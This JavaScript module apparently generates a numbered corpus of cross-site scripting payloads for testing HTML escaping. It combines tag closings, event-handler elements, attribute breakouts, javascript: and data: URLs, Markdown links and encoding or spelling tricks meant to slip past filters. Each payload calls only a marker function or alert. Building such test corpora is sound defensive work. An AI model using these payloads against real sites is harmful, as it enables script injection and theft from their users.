// Texts that would run in a page that does not escape them: our own, put together from a few building blocks.
// Each calls `__x(number)` or `alert(number)`, with a number of its own, wherever it runs.

/** What is to run, as it can be written in a script or in an attribute. */
const CALLS = [
  (n) => `__x(${n})`,
  (n) => `top['__x'](${n})`,
  (n) => `__x\`${n}\``,
  (n) => `\\u005f\\u005fx(${n})`,
  (n) => `&#95;&#x5f;x&lpar;${n}&rpar;`,
  (n) => `alert(${n})`,
  (n) => `[${n}].map(__x)`,
  (n) => `setTimeout('__x(${n})')`,
];

/** What closes whatever a text might stand in. */
const CLOSINGS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '"/>', '</bdi></a></p>', '</noscript>'];

/** Elements that run something by themselves. */
const ELEMENTS = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<object data=x onerror=${call}>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src="javascript:parent.${call.replace(/^top\W+__x\W+/, '__x(')}"></iframe>`,
  (call) => `<iframe srcdoc="<img src=x onerror=parent.${call}>"></iframe>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<form action="javascript:${call}"><button>a</button></form>`,
  (call) => `<a href="javascript:${call}">a</a>`,
];

/** The same element in spellings that a reader of HTML takes and a careless filter does not. */
const SPELLINGS = [
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x onerror=${call} //`,
  (call) => `<img src=x\tonerror\t=\t${call}>`,
  (call) => `<img src="x\`" onerror="${call}">`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script >${call}</script >`,
  (call) => `<script\tx>${call}</script\tx>`,
  (call) => `<img src=x onerror=${call.replace(/[_x]/g, (sign) => `&#${sign.charCodeAt(0)};`)}>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `%3Cimg src=x onerror=${call}%3E`,
  (call) => `＜img src=x onerror=${call}＞<img src=x onerror=${call}>`,
  (call) => `<img src=x one\u200brror=${call}><img src=x onerror=${call}>`,
  (call) => `\u202e<img src=x onerror=${call}>\u202c`,
  (call) => `{{ x }}{% raw %}<img src=x onerror=${call}>{% endraw %}`,
  (call) => `\${${call}}<img src=x onerror=${call}>`,
];

/** What ends the value of an attribute and begins another. */
const ATTRIBUTES = [
  (call) => `" autofocus tabindex="0" onfocus="${call}`,
  (call) => `' autofocus tabindex='0' onfocus='${call}`,
  (call) => `x autofocus tabindex=0 onfocus=${call} `,
  (call) => `" onerror="${call}" src="x`,
  (call) => `" onload="${call}`,
  (call) => `" style="animation: blink" onanimationstart="${call}`,
  (call) => `";${call};"`,
  (call) => `';${call};'`,
  (call) => `"}];${call};[{"`,
  (call) => `*/${call}/*`,
];

/** Addresses that run. */
const ADDRESSES = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript://example.org/%0a${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `vbscript:${call}`,
];

/** Markdown around an address. */
const MARKDOWN = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `<${address}>`,
  (address) => `[![a](${address})](${address})`,
  (address) => `[a](https://example.org "${address}")`,
  (address) => `[a](https://example.org/"onmouseover="${address})`,
];

const all = [];

function add(made) {
  const number = all.length + 1;
  const text = made(number);
  // Our format knows no control characters; a reader of addresses leaves them out.
  all.push({ number, text: text.replace(/[\u0000-\u0008\u000b-\u001f]/g, '') });
}

for (const element of ELEMENTS) for (const closing of CLOSINGS) add((n) => closing + element(CALLS[0](n)));
for (const [index, element] of ELEMENTS.entries()) for (const step of [1, 2, 3]) add((n) => '">' + element(CALLS[(index + step) % CALLS.length](n)));
for (const spelling of SPELLINGS) for (const call of [0, 5]) add((n) => spelling(CALLS[call](n)));
for (const attribute of ATTRIBUTES) for (const call of [0, 1, 5, 6]) add((n) => attribute(CALLS[call](n)));
for (const [index, address] of ADDRESSES.entries()) {
  add((n) => address(CALLS[0](n)));
  for (const markdown of MARKDOWN) add((n) => markdown(address(CALLS[index % 2](n))));
}

/** Every payload: its number and its text, which is one line. */
export const payloads = all.map(({ number, text }) => ({ number, text: text.replace(/\n/g, ' ') }));

/** The payloads in groups of so many. */
export function groups(size) {
  const count = Math.ceil(payloads.length / size);
  return Array.from({ length: count }, (_, index) => payloads.slice(index * size, (index + 1) * size));
}
